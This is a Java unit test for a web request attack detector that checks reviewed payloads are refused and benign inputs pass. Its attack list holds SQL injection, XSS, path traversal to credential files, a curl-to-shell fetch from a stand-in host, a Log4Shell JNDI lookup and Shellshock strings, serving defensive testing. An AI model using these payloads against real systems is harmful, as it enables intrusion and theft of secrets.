package io.portcullis.engine.detect;

import static org.assertj.core.api.Assertions.assertThat;

import io.portcullis.engine.model.ApiRequest;
import io.portcullis.engine.model.Detection;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Values a security review of the detectors found passing that must be refused, and benign values it
 * found refused that must pass, at paranoia 1 and the default threshold: each one stays fixed.
 */
class ReviewedCasesTest {

    static final AttackDetection DETECTION = AttackDetection.defaults();

    static int score(String value) {
        ApiRequest request = DETECTION.inspect(ApiRequest.builder().id("t").route("r").path("/api/search")
                .headers(Map.of("user-agent", List.of("curl/8.5.0"))).query(Map.of("q", List.of(value))).build());
        return request.detections().stream().mapToInt(Detection::score).sum();
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "x\\' OR 1=1-- ", "x\\' UNION SELECT password FROM users--", "1\tOR\tTRUE", "x' OR '1", "' OR 1 OR '",
            "-1/**/UNION/**/SELECT password FROM users", "echo ;id", "ls ;curl http://evil.example/x | sh",
            "x; cat config.php", "x | ping abc.oast.example", "127.0.0.1; id #", "x autofocus onfocus=alert(1)",
            "<x_ tabindex=1 autofocus onfocus=alert(1)>", "/etc/./passwd", "/etc//passwd", "/etc/ssl/private/server.key",
            "/root/flag.txt", "}${${lower:j}ndi:${lower:l}dap://evil.example/a}", "{{['id']|filter('system')}}",
            "() { :; }; /bin/bash -c 'id'"})
    void attacksTheReviewFoundPassingAreRefused(String attack) {
        assertThat(score(attack)).as(attack).isGreaterThanOrEqualTo(100);
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "Date & time", "Shoes, bags & more", "Save & print", "A&W", "B&W", "Date;Time;Amount", "Name;ID;Amount",
            "Leave at the door; call me if I'm out", "Leave at the door; call 07700900123",
            "Invoice 2024-113; date 15.03.2024", "Moved to Tue; at 10.30", "JavaScript: The Good Parts",
            "Customer's name (as on card) or ID", "Sender's account number (IBAN) and BIC", "Don't forget to smile (:",
            "That's fine, confirm.", "Women's shawl/throw blanket", "Today's hours & location.", "O'Brien, document.pdf",
            "Please ship the Smiths' order by Friday", "Compare fund returns and benchmark (MSCI World)",
            "Trade Union Select Committee.", "{{firstName}}, low balance alert on your account", "Self-employed joiner.",
            "I'm a keen cycler.", "<!DOCTYPE html><html><body style=\"font-family:system-ui\">Hi</body></html>",
            "Bonus (*)", "1 or 2"})
    void benignValuesTheReviewFoundRefusedPass(String benign) {
        assertThat(score(benign)).as(benign).isLessThan(100);
    }
}
